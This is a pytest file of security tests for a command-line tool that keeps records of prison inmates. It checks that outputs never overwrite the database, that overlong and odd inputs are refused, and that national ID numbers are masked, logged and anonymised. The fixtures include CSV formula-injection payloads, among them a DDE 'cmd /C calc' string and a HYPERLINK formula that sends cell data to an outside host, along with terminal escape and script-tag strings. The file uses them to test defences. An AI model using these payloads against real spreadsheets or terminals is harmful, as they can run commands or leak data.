"""Personal data and hostile input (issue 20), tried as an attacker with a shell account
would: each numbered case of the issue, through the CLI. The cases that need real
processes (signals, pipes, Ctrl-C, files left by a killed process) are in
test_e2e_security.py."""

import os
import sqlite3
import stat
from pathlib import Path

import pytest
import typer.main

from conftest import add_person
from conftest import dump
from test_reliability import unsound_backup

from wbpctl.cli.app import app


# -- 1. an output never replaces the database -----------------------------------------------

# the fewest arguments each command with -o needs to get as far as writing
ARGS = {"participant list": [], "participant show": ["B.I-1/2025"], "opd list": [],
        "track list": [], "track show": ["OLAH-MADU"], "log": [], "head": [],
        "checkpoint": [], "report monthly": [], "report opd": [], "report recidivism": [],
        "report readiness": [], "export": ["participants"], "privacy show": [],
        "sponsor list": [], "sponsor show": ["SPONSOR"], "donation list": [],
        "product list": [], "product show": ["MADU-250"], "report sponsors": [],
        "report sponsor": ["SPONSOR"], "report sales": [], "bundle": [],
        "merge": ["other.wbpb"], "person matches": []}


def commands_with(option: str) -> list[str]:
    """Every command (as 'group command') that takes ``option``, read from the app."""
    found = []

    def walk(command, path):
        for name, sub in getattr(command, "commands", {}).items():
            walk(sub, [*path, name])
        if any(option in p.opts for p in getattr(command, "params", [])):
            found.append(" ".join(path))

    walk(typer.main.get_command(app), [])
    return sorted(found)


def test_the_table_names_every_command_with_an_output():
    assert sorted(ARGS) == commands_with("--output")


def targets(db: Path) -> list[Path]:
    """The database, its companions, a backup of it, and links to it."""
    link, hard = db.parent / "link.csv", db.parent / "hard.json"
    link.symlink_to(db)
    os.link(db, hard)
    return [db, Path(f"{db}-wal"), Path(f"{db}-shm"), Path(f"{db}-journal"),
            Path(f"{db}.heads"), db.parent / "copy.db", link, hard]


@pytest.mark.parametrize("command", sorted(ARGS))
def test_no_command_writes_its_output_over_the_database(cli, command):
    add_person(cli)
    cli.ok("checkpoint")
    cli.ok("backup", str(cli.db.parent / "copy.db"))
    before = dump(cli.db)
    formats = command in commands_with("--format")
    for target in targets(cli.db):
        for extra in ([], ["-f", "json"], ["-f", "xlsx"]) if formats else ([],):
            result = cli(*command.split(), *ARGS[command], "-o", str(target), *extra)
            assert result.exit_code == 2, (command, target, result.stderr)
            assert "an output never replaces it" in result.stderr
            assert result.stdout == ""
    assert dump(cli.db) == before
    assert Path(f"{cli.db}.heads").read_text().count("\n") == 1
    cli.ok("verify")


def test_nor_the_import_errors_file_nor_a_backup(cli, tmp_path):
    add_person(cli)
    before = dump(cli.db)
    bad = tmp_path / "bad.csv"
    bad.write_text("reg_no,name,detained_on,sentence\nB.I-9/2025,,2025-01-10,3y\n")
    for target in (cli.db, Path(f"{cli.db}-wal"), Path(f"{cli.db}.heads")):
        result = cli("import", "participants", str(bad), "--errors", str(target))
        assert result.exit_code == 2 and "never replaces" in result.stderr
        result = cli("backup", str(target), "--force")
        assert result.exit_code in (1, 2) and "Backup written" not in result.stderr
    assert dump(cli.db) == before
    cli.ok("verify")


def test_the_refusal_in_indonesian(cli):
    result = cli("--lang", "id", "participant", "list", "-o", str(cli.db))
    assert result.exit_code == 2 and "keluaran tidak pernah menimpanya" in result.stderr


def test_an_ordinary_file_is_still_replaced(cli, tmp_path):
    out = tmp_path / "people.csv"
    out.write_text("old")
    cli.ok("participant", "list", "-o", str(out))
    assert out.read_text().startswith("reg_no,")


# -- 10. folders made by -o are owner-only ----------------------------------------------------

@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_folders_made_for_an_output_are_owner_only(cli, tmp_path, name):
    add_person(cli)
    target = tmp_path / "new" / "deeper" / name
    cli.ok("participant", "list", "-o", str(target))
    for folder in (tmp_path / "new", tmp_path / "new" / "deeper"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_folders_made_for_a_backup_are_owner_only(cli, tmp_path):
    cli.ok("backup", str(tmp_path / "b1" / "b2" / "copy.db"))
    for folder in (tmp_path / "b1", tmp_path / "b1" / "b2"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


# -- 6. backup and restore paths holding #, ?, %, spaces and non-ASCII ----------------------

ODD_NAMES = ["b.db#2026-06", "b?mode=rw.db", "b%20c.db", "cadangan baru.db", "cadangan-ñ-ü.db"]


@pytest.mark.parametrize("name", ODD_NAMES)
def test_backup_and_restore_use_the_file_named(cli, tmp_path, name):
    """`restore 'b.db#2026-06'` once verified and restored b.db: a '#' in a file: URI
    starts a fragment."""
    add_person(cli, name="Kept In The Odd Backup")
    odd = tmp_path / name
    cli.ok("backup", str(odd))
    add_person(cli, "B.I-2/2025", name="Only In The Plain Backup")
    plain = tmp_path / "b.db"
    for decoy in {tmp_path / "b.db", tmp_path / name.split("#")[0].split("?")[0]}:
        if decoy != odd and not decoy.exists():
            cli.ok("backup", str(decoy))
    cli.ok("restore", str(odd))
    names = [p["name"] for p in cli.json("participant", "list")]
    assert names == ["Kept In The Odd Backup"]
    assert plain.exists()
    cli.ok("verify")


def test_restore_refuses_an_odd_named_copy_that_does_not_verify(cli, tmp_path):
    add_person(cli)
    odd = unsound_backup(cli, tmp_path / "b.db#x")
    cli.ok("backup", str(tmp_path / "b.db"))     # a sound decoy under the name before '#'
    before = dump(cli.db)
    result = cli("restore", str(odd))
    assert result.exit_code == 1 and "does not verify" in result.stderr
    assert dump(cli.db) == before


# -- 10. two restores in one second keep both set-aside copies ------------------------------

def test_two_restores_in_one_second_keep_both_replaced_copies(cli, tmp_path, monkeypatch):
    import wbpctl.services.maintenance as maintenance
    from datetime import datetime, timezone

    class Frozen(datetime):
        @classmethod
        def now(cls, tz=None):
            return datetime(2026, 11, 28, 10, 0, 0, tzinfo=timezone.utc)

    monkeypatch.setattr(maintenance, "datetime", Frozen)
    add_person(cli, name="First")
    copy = tmp_path / "copy.db"
    cli.ok("backup", str(copy))
    add_person(cli, "B.I-2/2025", name="Second")
    cli.ok("restore", str(copy))          # sets aside First + Second
    add_person(cli, "B.I-3/2025", name="Third")
    cli.ok("restore", str(copy))          # sets aside First + Third, in the same second
    asides = sorted(cli.db.parent.glob("wbp.db.replaced-*"))
    assert [p.name for p in asides] == ["wbp.db.replaced-20261128T100000",
                                        "wbp.db.replaced-20261128T100000-2"]
    held = [sorted(r[0] for r in sqlite3.connect(p).execute("SELECT name FROM people"))
            for p in asides]
    assert held == [["First", "Second"], ["First", "Third"]]
    for p in asides:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600


# -- 7. Ctrl-C just after the commit says the change was saved -------------------------------

@pytest.fixture
def interrupted_after_commit(monkeypatch):
    """SIGINT handled just after SQLite's COMMIT returned, before wbpctl went on."""
    from contextlib import contextmanager

    import wbpctl.store.connection as connection
    real = connection.write

    @contextmanager
    def write(conn, path=""):
        with real(conn, path):
            yield conn
        raise KeyboardInterrupt

    monkeypatch.setattr(connection, "write", write)


def test_ctrl_c_after_the_commit_says_it_was_saved(cli, interrupted_after_commit):
    result = cli("participant", "add", "--name", "A", "--reg-no", "B.I-1/2025",
                 "--detained", "2025-01-10", "--sentence", "3y")
    assert result.exit_code == 130
    assert "nothing was written" not in result.stderr
    assert "Interrupted after the change was saved: 1 event(s) are in the ledger" \
        in result.stderr
    assert sqlite3.connect(cli.db).execute("SELECT count(*) FROM people").fetchone()[0] == 1


def test_ctrl_c_after_an_import_commit_says_it_was_saved(cli, interrupted_after_commit,
                                                         tmp_path):
    rows = "".join(f"B.I-{i}/2025,P {i},2025-01-10,3y\n" for i in range(1, 301))
    path = tmp_path / "p.csv"
    path.write_text("reg_no,name,detained_on,sentence\n" + rows)
    result = cli("--lang", "id", "import", "participants", str(path), "--date-order",
                 "day-first")
    assert result.exit_code == 130
    assert "Dihentikan setelah perubahan tersimpan: 300 peristiwa" in result.stderr
    assert sqlite3.connect(cli.db).execute("SELECT count(*) FROM people").fetchone()[0] == 300


def test_ctrl_c_before_the_commit_still_says_nothing_was_written(cli, monkeypatch):
    import wbpctl.services.participants as participants

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(participants, "registration_records", interrupted)
    result = cli("participant", "add", "--name", "A", "--reg-no", "B.I-1/2025",
                 "--detained", "2025-01-10", "--sentence", "3y")
    assert result.exit_code == 130 and "Interrupted: nothing was written" in result.stderr
    assert sqlite3.connect(cli.db).execute("SELECT count(*) FROM people").fetchone()[0] == 0


@pytest.mark.skipif(not hasattr(__import__("signal"), "pthread_sigmask"), reason="POSIX")
def test_a_signal_the_moment_a_temporary_appears_still_removes_it(tmp_path):
    """The gap a test of a real process hit once: SIGTERM sent as soon as the file is
    there, before the ``finally`` that removes it was in force."""
    import signal
    import threading

    from wbpctl import files

    made = tmp_path / "holds-niks.tmp"

    def create():
        made.write_text("3171...")
        signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)
        return str(made)

    with pytest.raises(KeyboardInterrupt):
        with files.temporary(create):
            raise AssertionError("the block never starts")
    assert not made.exists()


def test_a_temporary_renamed_into_place_is_kept(tmp_path):
    from wbpctl import files

    folder = tmp_path / "out"
    folder.mkdir()
    with files.temporary(lambda: str(folder / ".x.tmp")) as name:
        Path(name).write_text("whole")
        os.replace(name, folder / "x")
    assert [p.name for p in folder.iterdir()] == ["x"]


# -- 4 and 8. hostile values are refused, named, never an internal error -------------------

@pytest.mark.parametrize("args, code, words", [
    (["participant", "add", "--name", "X", "--reg-no", "B.I-9/2025", "--detained",
      "2025-01-01", "--sentence", "99999999 hari"], 1, "longer than 20 years"),
    (["remission", "add", "B.I-1/2025", "--on", "2025-08-17", "--kind", "RU", "--days", "²"],
     1, "must be days from 1"),
    (["report", "monthly", "--month", "9999-12"], 1, "between the years 1900 and 2100"),
    (["report", "readiness", "--as-of", "0001-01-01"], 1, "between the years 1900 and 2100"),
    (["report", "opd", "--from", "01/01/0001"], 1, "between the years 1900 and 2100"),
    (["log", "-n", str(10 ** 30)], 2, "1<=x<=1000000000"),
    (["participant", "add", "--name", "X", "--reg-no", "B.I-9/2025", "--detained",
      "2025-01-01", "--sentence", "1 " * 20_000], 1, "longer than 40 characters"),
    (["participant", "show", "B.I" + " " * 40_000 + "x"], 1, "longer than 60 characters"),
])
def test_hostile_values_are_refused_not_internal_errors(cli, args, code, words):
    add_person(cli)
    before = dump(cli.db)
    result = cli(*args)
    assert result.exit_code == code, result.stderr
    assert "Internal error" not in result.stderr and words in result.stderr
    assert dump(cli.db) == before


def test_an_import_with_odd_digits_lists_every_bad_row(cli, tmp_path):
    add_person(cli)
    path = tmp_path / "r.csv"
    path.write_text("reg_no,granted_on,kind,days\nB.I-1/2025,17/08/2025,RU,²\n"
                    "B.I-1/2025,17/08/2026,RU,٣\nB.I-404/2025,17/08/2025,RU,30\n"
                    f"B.I-1/2025,{'9' * 40000},RU,30\n")
    result = cli("import", "remissions", str(path))
    assert result.exit_code == 1 and "Internal error" not in result.stderr
    lines = result.stderr.splitlines()
    assert [line.split(",")[0].split(":")[0] for line in lines[:4]] == [
        "line 2", "line 3", "line 4", "line 5"]
    assert "longer than 40 characters" in lines[3]


def test_a_sentence_cell_of_the_csv_field_limit_is_refused_on_its_length(cli, tmp_path):
    path = tmp_path / "p.csv"
    cell = "1" * 131_000
    path.write_text(f"reg_no,name,detained_on,sentence\nB.I-1/2025,A,2025-01-10,{cell}\n"
                    f"{'B.I' + ' ' * 131_000 + '1/2025'},B,2025-01-10,3y\n")
    result = cli("import", "participants", str(path))
    assert result.exit_code == 1
    assert "sentence '1111" in result.stderr and "longer than 40 characters" in result.stderr
    assert result.stderr.count("longer than 40 characters") == 2


# -- 3. formula cells neutralised in every CSV and workbook, --raw-cells to opt out --------

import csv    # noqa: E402
import io     # noqa: E402

FORMULAS = {"name": "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
            "crime": "+cmd|' /C calc'!A0", "sponsor": "@SUM(A1:A9)"}


@pytest.fixture
def formulas(cli):
    add_person(cli, name=FORMULAS["name"], crime=FORMULAS["crime"], detained="2025-11-01",
               sentence="1y3m")
    cli.ok("sponsor", "add", "--name", FORMULAS["sponsor"], "--kind", "perusahaan",
           "--contact", "=1+1")
    cli.ok("assign", "B.I-1/2025", "OLAH-MADU", "--on", "2025-12-01", "--sponsor",
           FORMULAS["sponsor"])
    cli.ok("--actor", "=cmd()", "participant", "edit", "B.I-1/2025", "--crime-category",
           "pencurian")
    return cli


def cells_of(text: str) -> list[str]:
    text = text.lstrip("\ufeff")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def formula_like(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith(("-", "\t", "\r"))
            and not c.lstrip("-").replace(".", "").isdigit()]


# a command of each family that shows what the fixture recorded, as CSV
FAMILIES = {
    "listing": ["participant", "list"],
    "record": ["participant", "show", "B.I-1/2025"],
    "roster": ["track", "show", "OLAH-MADU"],
    "report": ["report", "readiness", "--within", "3650", "--as-of", "2026-11-28"],
    "history": ["log"],
    "checkpoint": ["--actor", "=cmd()", "checkpoint"],
    "export": ["export", "all"],
}


@pytest.mark.parametrize("family", sorted(FAMILIES))
@pytest.mark.parametrize("dialect", [[], ["--excel"]])
def test_no_csv_holds_a_formula(formulas, family, dialect):
    if family == "checkpoint" and dialect:
        return                                  # no --excel: a head holds no NIK
    args = [*FAMILIES[family], *dialect]
    if family != "export":
        args += ["-f", "csv"]
    cells = cells_of(formulas.ok(*args).stdout)
    assert formula_like(cells) == [], family
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'@")
               for c in cells), family


@pytest.mark.parametrize("family", ["listing", "record", "report", "export"])
def test_no_workbook_holds_a_formula(formulas, tmp_path, family):
    import openpyxl

    target = tmp_path / f"{family}.xlsx"
    formulas.ok(*FAMILIES[family], "-o", str(target))
    book = openpyxl.load_workbook(target)
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]
    assert formula_like(texts) == []
    assert any(t.startswith("'=") for t in texts)


def test_the_errors_file_holds_no_formula(cli, tmp_path):
    path = tmp_path / "p.csv"
    path.write_text("reg_no,name,detained_on,sentence\n"
                    f"B.I-1/2025,\"{FORMULAS['name'].replace(chr(34), chr(34) * 2)}\","
                    "2025-01-10,99 tahun\n")
    errors = tmp_path / "ditolak.csv"
    assert cli("import", "participants", str(path), "--errors", str(errors)).exit_code == 1
    cells = cells_of(errors.read_text())
    assert formula_like(cells) == [] and any(c.startswith("'=HYPERLINK") for c in cells)


@pytest.mark.parametrize("family", ["listing", "record", "report", "export"])
def test_raw_cells_gives_programs_the_values_as_recorded(formulas, tmp_path, family):
    args = [*FAMILIES[family], "--raw-cells"]
    if family != "export":
        args += ["-f", "csv"]
    cells = cells_of(formulas.ok(*args).stdout)
    assert FORMULAS["name"] in cells
    target = tmp_path / "raw.xlsx"
    formulas.ok(*FAMILIES[family], "--raw-cells", "-o", str(target))
    import openpyxl
    texts = [c.value for ws in openpyxl.load_workbook(target) for row in ws.iter_rows()
             for c in row]
    assert FORMULAS["name"] in texts


def test_negative_numbers_stay_numbers(cli):
    add_person(cli, detained="2020-01-10", sentence="2y")          # 1,784 days past expiry
    rows = list(csv.DictReader(io.StringIO(cli.ok(
        "report", "readiness", "-f", "csv", "--as-of", "2026-11-28").stdout)))
    assert rows[0]["days_left"].startswith("-") and rows[0]["days_left"][1:].isdigit()


# -- 5. nothing from the data or the command line reaches the terminal raw ------------------

ESC = "\x1b[2J\x1b[31m"
RLO = "\u202e"


def raw_controls(text: str) -> list[str]:
    return sorted({ch for ch in text if ch in "\x1b\x07\x9b" or "\u202a" <= ch <= "\u202e"
                   or "\u2066" <= ch <= "\u2069"})


def test_an_actor_with_controls_is_refused_and_not_echoed_raw(cli):
    result = cli("--actor", ESC + "kalapas", "checkpoint")
    assert result.exit_code == 1 and raw_controls(result.stderr) == []
    assert "\\x1b[2J" in result.stderr and "control characters" in result.stderr
    result = cli("--actor", "budi (os: root)", "checkpoint")
    assert result.exit_code == 1 and "(os:" in result.stderr


def test_every_event_records_the_os_user_beside_the_actor(cli):
    from wbpctl.cli.state import os_user

    add_person(cli)
    cli.ok("--actor", "petugas", "participant", "edit", "B.I-1/2025", "--name", "B")
    actors = [e["actor"] for e in cli.json("log")]
    assert actors[-3:] == [os_user(), os_user(), f"petugas (os: {os_user()})"]


def test_a_ledger_written_before_keeps_verifying(cli, session):
    """Events written with a bare actor (as every wbpctl before this one did) verify and
    replay as before; the OS user is inside the actor text, so no hash changes."""
    from dataclasses import replace

    old = replace(session, actor="petugas-lama")
    from wbpctl.services import participants
    participants.register(old, name="Lama", reg_no="B.I-7/2024", detained="2024-01-10",
                          sentence="3y")
    old.close()
    add_person(cli, "B.I-8/2025")
    assert [e["actor"] for e in cli.json("log")][1:2] == ["petugas-lama"]
    cli.ok("verify")
    assert cli.ok("report", "monthly", "--at", "2", "-f", "json").stdout


@pytest.fixture
def hostile_ledger(cli, session):
    """Texts an older wbpctl let in: controls in a name, an offence and an actor."""
    from dataclasses import replace

    add_person(cli, crime="pencurian")
    person = cli.json("participant", "show", "B.I-1/2025")
    sneaky = replace(session, actor=ESC + "admin" + RLO)
    with sneaky.transaction() as tx:
        tx.record("person.corrected", person["uid"], {"uid": person["uid"], "changes": {
            "name": "Budi" + ESC + RLO + "<script>alert(1)</script>"}})
        tx.record("stay.corrected", person["uid"], {"uid": person["stays"][0]["uid"],
                                                     "changes": {"crime": "curi" + ESC}})
    sneaky.close()
    return cli


@pytest.mark.parametrize("args", [
    ["log"], ["log", "-f", "markdown"], ["log", "-f", "json"], ["participant", "list"],
    ["participant", "list", "-f", "markdown"], ["participant", "list", "-f", "json"],
    ["participant", "show", "B.I-1/2025"], ["participant", "show", "B.I-1/2025", "-f", "json"],
    ["participant", "show", "B.I-1/2025", "-f", "markdown"], ["track", "list"],
    ["report", "readiness", "--within", "3650"],
])
def test_no_listing_sends_controls_to_the_terminal(hostile_ledger, args):
    result = hostile_ledger.ok(*args)
    assert raw_controls(result.stdout) == [] and raw_controls(result.stderr) == []


def test_json_stays_exact(hostile_ledger):
    import json
    shown = json.loads(hostile_ledger.ok("participant", "show", "B.I-1/2025", "-f",
                                         "json").stdout)
    assert shown["name"] == "Budi" + ESC + RLO + "<script>alert(1)</script>"


def test_markdown_escapes_html(hostile_ledger):
    out = hostile_ledger.ok("participant", "list", "-f", "markdown").stdout
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert "\\\\x1b[2J" in out


def test_a_rejected_value_is_cut_and_escaped_in_the_error_line(cli, tmp_path):
    result = cli("participant", "add", "--name", "A" * 100_000 + ESC, "--reg-no",
                 "B.I-1/2025", "--detained", "2025-01-10", "--sentence", "3y")
    assert result.exit_code == 1 and len(result.stderr) < 300
    result = cli("participant", "add", "--name", "Budi", "--reg-no", "B.I-1/2025",
                 "--detained", "2025-01-10", "--sentence", "3y", "--crime", "x" + ESC)
    assert result.exit_code == 1 and raw_controls(result.stderr) == []
    path = tmp_path / "p.csv"
    path.write_text("reg_no,name,detained_on,sentence\n"
                    f"B.I-1/2025,A,2025-01-10,{'9' * 100_000}\n"
                    f"B.I-2/2025,A,{RLO}2025-01-10{ESC},3y\n")
    result = cli("import", "participants", str(path))
    assert result.exit_code == 1 and raw_controls(result.stderr) == []
    assert max(len(line) for line in result.stderr.splitlines()) < 300


# -- 2. no NIK leaves without a person.accessed event committed first -----------------------

NIK = "1506045807900003"


def accesses(cli) -> list[dict]:
    return [e for e in cli.json("log") if e["kind"] == "person.accessed"]


@pytest.fixture
def with_nik(cli):
    add_person(cli, nik=NIK, gender="P", birth_date="1990-07-18")
    add_person(cli, "B.I-2/2025", name="Agus", nik="1506041203900001")
    return cli


@pytest.mark.parametrize("how", ["cwd", "--config", "WBPCTL_CONFIG"])
def test_a_config_cannot_turn_masking_off_alone(with_nik, tmp_path, monkeypatch, how):
    config = tmp_path / "config.yaml"
    config.write_text("privacy:\n  mask_nik: false\n")
    args = ["--config", str(config)] if how == "--config" else []
    if how == "WBPCTL_CONFIG":
        monkeypatch.setenv("WBPCTL_CONFIG", str(config))
    for command in (["participant", "list", "-f", "json"],
                    ["participant", "show", "B.I-1/2025", "-f", "json"],
                    ["export", "participants"], ["log", "-f", "json"]):
        result = with_nik(*args, *command)
        assert result.exit_code == 1 and NIK not in result.stdout, command
        assert "privacy set mask-nik off" in result.stderr
    config.unlink()
    monkeypatch.delenv("WBPCTL_CONFIG", raising=False)
    assert accesses(with_nik) == []


def test_with_the_database_policy_off_each_showing_is_recorded(with_nik, tmp_path):
    config = tmp_path / "open.yaml"
    config.write_text("privacy:\n  mask_nik: false\n")
    done = with_nik.ok("--actor", "kalapas", "privacy", "set", "mask-nik", "off", "--reason",
                       "data matching with Disdukcapil")
    assert "mask-nik off" in done.stderr
    policy = with_nik.json("privacy", "show")
    assert policy[0]["value"] == "off" and policy[0]["actor"].startswith("kalapas (os:")
    shown = with_nik.json("participant", "show", "B.I-1/2025")
    assert shown["nik"] == "1506********0003"          # the default config still masks
    assert accesses(with_nik) == []
    shown = with_nik.json("--config", str(config), "participant", "show", "B.I-1/2025")
    assert shown["nik"] == NIK
    listed = with_nik.json("--config", str(config), "participant", "list")
    assert {p["nik"] for p in listed} == {NIK, "1506041203900001"}
    assert [sorted(a["payload"]["command"] for a in accesses(with_nik))] == [
        ["participant list", "participant list", "participant show"]]
    with_nik.ok("privacy", "set", "mask-nik", "on", "--reason", "done")
    assert with_nik("--config", str(config), "participant", "list").exit_code == 1
    assert with_nik("privacy", "set", "mask-nik", "on", "--reason", "again").exit_code == 1
    assert with_nik("privacy", "set", "mask-nik", "off", "--reason", " ").exit_code == 1


def test_search_matches_a_nik_only_whole_and_records_it(with_nik):
    """'nik LIKE %T%' recovered a full NIK in 27 queries."""
    for part in ("1506", "150604", "58079", "0003", NIK[:15], NIK[1:]):
        assert with_nik.json("participant", "list", "--search", part) == [], part
    assert accesses(with_nik) == []
    found = with_nik.json("participant", "list", "--search", "1506 0458 0790 0003")
    assert [p["name"] for p in found] == ["Budi Santoso"]
    assert found[0]["nik"] == "1506********0003"
    (access,) = accesses(with_nik)
    assert access["payload"]["command"] == "participant list --search"
    assert [p["name"] for p in with_nik.json("participant", "list", "--search", "agu")] == \
        ["Agus"]
    assert len(with_nik.json("participant", "list", "--search", "B.I-2")) == 1


@pytest.fixture
def locked(with_nik, tmp_path, monkeypatch):
    """Another process holds the write lock past a short busy timeout."""
    config = tmp_path / "short.yaml"
    config.write_text("storage:\n  busy_timeout_seconds: 0.2\n")
    monkeypatch.setenv("WBPCTL_CONFIG", str(config))
    holder = sqlite3.connect(with_nik.db, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    yield with_nik
    holder.execute("ROLLBACK")
    holder.close()


@pytest.mark.parametrize("args", [
    ["export", "participants", "--reveal"], ["export", "all", "--reveal", "-f", "json"],
    ["participant", "list", "--reveal"],
    ["participant", "show", "B.I-1/2025", "--reveal"], ["log", "--reveal"],
    ["participant", "list", "--search", NIK],
])
def test_a_reveal_that_cannot_be_recorded_reveals_nothing(locked, args, tmp_path):
    result = locked(*args)
    assert result.exit_code == 4 and "busy" in result.stderr
    assert result.stdout == ""
    out = tmp_path / "out.csv"
    result = locked(*args, "-o", str(out))
    assert result.exit_code == 4 and not out.exists()
    assert list(tmp_path.glob(".out.csv*")) == []


def test_an_export_reveal_is_recorded_before_its_first_row(with_nik, monkeypatch):
    """The reader went away after one row (``| head``): the access is in the ledger."""
    import wbpctl.services.exporting as exporting

    real = exporting.export

    def reader_leaves(session, kind, write_row, **options):
        def once(row):
            write_row(row)
            raise BrokenPipeError
        return real(session, kind, once, **options)

    monkeypatch.setattr(exporting, "export", reader_leaves)
    result = with_nik("export", "participants", "--reveal")
    monkeypatch.undo()
    assert result.exit_code == 0
    assert [a["payload"]["command"] for a in accesses(with_nik)] == ["export participants"] * 2


def test_verify_does_not_print_a_nik(with_nik):
    conn = sqlite3.connect(with_nik.db)
    conn.execute("UPDATE people SET nik = '1506045807900099' WHERE nik = ?", (NIK,))
    conn.commit()
    conn.close()
    result = with_nik("verify")
    assert result.exit_code == 1 and "nik" in result.stderr
    assert NIK not in result.stderr and "1506045807900099" not in result.stderr
    assert "1506********0003" in result.stderr


# -- 9. anonymised exports that are anonymous ------------------------------------------------

import re     # noqa: E402


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory):
    """The demo ledger, made once (tests copy it)."""
    folder = tmp_path_factory.mktemp("demo")
    from conftest import Cli
    demo = Cli(folder / "wbp.db")
    os.environ["WBPCTL_TODAY"] = "2026-11-28"
    try:
        demo.ok("init", "--demo")
    finally:
        del os.environ["WBPCTL_TODAY"]
    return folder / "wbp.db"


@pytest.fixture
def demo(demo_db, tmp_path):
    from conftest import Cli
    copy = tmp_path / "demo.db"
    source, target = sqlite3.connect(demo_db), sqlite3.connect(copy)
    source.backup(target)
    source.close()
    target.close()
    return Cli(copy)


def anonymous_rows(cli, *args) -> list[dict]:
    result = cli.ok("export", *args, "--anonymize", "--min-k", "1")
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_quasi_identifiers_are_generalised(demo):
    from wbpctl.config import load_config
    rows = anonymous_rows(demo, "participants")
    assert len(rows) > 60
    assert set(rows[0]) == {"reg_no", "gender", "age_band", "detained_on", "admitted_on",
                            "sentence", "person_uid", "crime_category"}
    categories = set(load_config().offence_categories)
    for row in rows:
        assert re.fullmatch(r"X-[0-9a-f]{12}", row["reg_no"])
        assert re.fullmatch(r"X-[0-9a-f]{12}", row["person_uid"])
        assert re.fullmatch(r"\d{4}-\d{2}", row["detained_on"])
        assert re.fullmatch(r"\d{4}-\d{2}", row["admitted_on"])
        assert row["age_band"] == "" or re.fullmatch(r"(\d+)-(\d+)", row["age_band"])
        if row["age_band"]:
            low, high = map(int, row["age_band"].split("-"))
            assert low % 5 == 0 and high == low + 4
        assert row["sentence"] in ("", "<=1y", "1-3y", "3-5y", ">5y")
        assert row["crime_category"] in categories
    for kind, column in (("releases", "released_on"), ("remissions", "granted_on"),
                         ("enrolments", "assigned_on"), ("completions", "completed_on")):
        for row in anonymous_rows(demo, kind):
            assert re.fullmatch(r"\d{4}-\d{2}", row[column]), kind
            assert not {"nik", "name", "sponsor", "certificate", "override"} & set(row)


def test_the_export_says_its_k_and_refuses_under_min_k(demo, tmp_path):
    """62 of 62 demo rows were unique on two dates alone: such an export is refused."""
    result = demo("export", "participants", "--anonymize")
    assert result.exit_code == 1 and result.stdout == ""
    assert "k = 1, under --min-k 5" in result.stderr and "nothing written" in result.stderr
    out = tmp_path / "anon.csv"
    assert demo("export", "participants", "--anonymize", "-o", str(out)).exit_code == 1
    assert not out.exists()
    result = demo("--lang", "id", "export", "participants", "--anonymize", "--min-k", "1")
    assert result.exit_code == 0 and "Dianonimkan" in result.stderr and "k = 1" in result.stderr
    result = demo.ok("export", "remissions", "--anonymize")
    k = int(re.search(r"k = (\d+)", result.stderr)[1])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    from collections import Counter
    groups = Counter((r["granted_on"], r["kind"], r["days"]) for r in rows)
    assert k == min(groups.values()) >= 5


def test_pseudonyms_differ_per_export_and_cannot_be_computed_from_the_ledger(demo):
    import hashlib
    first = [r["reg_no"] for r in anonymous_rows(demo, "participants")]
    second = [r["reg_no"] for r in anonymous_rows(demo, "participants")]
    assert len(set(first)) == len(first) and not set(first) & set(second)
    salt = sqlite3.connect(demo.db).execute("SELECT lower(hex(hash)) FROM events WHERE seq = 1"
                                        ).fetchone()[0]
    regnos = [p["reg_no"] for p in demo.json("participant", "list")]
    old_scheme = {"X-" + hashlib.sha256((salt + r).encode()).hexdigest()[:12] for r in regnos}
    assert not old_scheme & set(first)


def test_linkable_exports_share_pseudonyms_keyed_outside_the_database(demo, tmp_path):
    refused = demo("export", "participants", "--anonymize", "--min-k", "1", "--linkable")
    assert refused.exit_code == 1 and "privacy_key" in refused.stderr
    key = tmp_path / "keys" / "wbp.privacy"
    config = tmp_path / "linked.yaml"
    config.write_text(f"privacy_key: {key}\n")
    made = demo.ok("--config", str(config), "keygen", "--privacy")
    assert str(key) in made.stderr
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_bytes()) == 32
    assert stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    assert demo("--config", str(config), "keygen", "--privacy").exit_code == 1   # kept
    args = ("--config", str(config), "export", "participants", "--anonymize", "--min-k", "1",
            "--linkable")
    one, two = (list(csv.DictReader(io.StringIO(demo.ok(*args).stdout))) for _ in range(2))
    assert [r["reg_no"] for r in one] == [r["reg_no"] for r in two]
    assert "linkable" in demo.ok(*args).stderr
    assert key.read_bytes() not in demo.db.read_bytes()
    key.chmod(0o644)
    assert "chmod 600" in demo(*args).stderr
    assert demo("--config", str(config), "export", "participants", "--linkable").exit_code == 2
    assert demo("--config", str(config), "participant", "list", "-o", str(key)).exit_code == 2
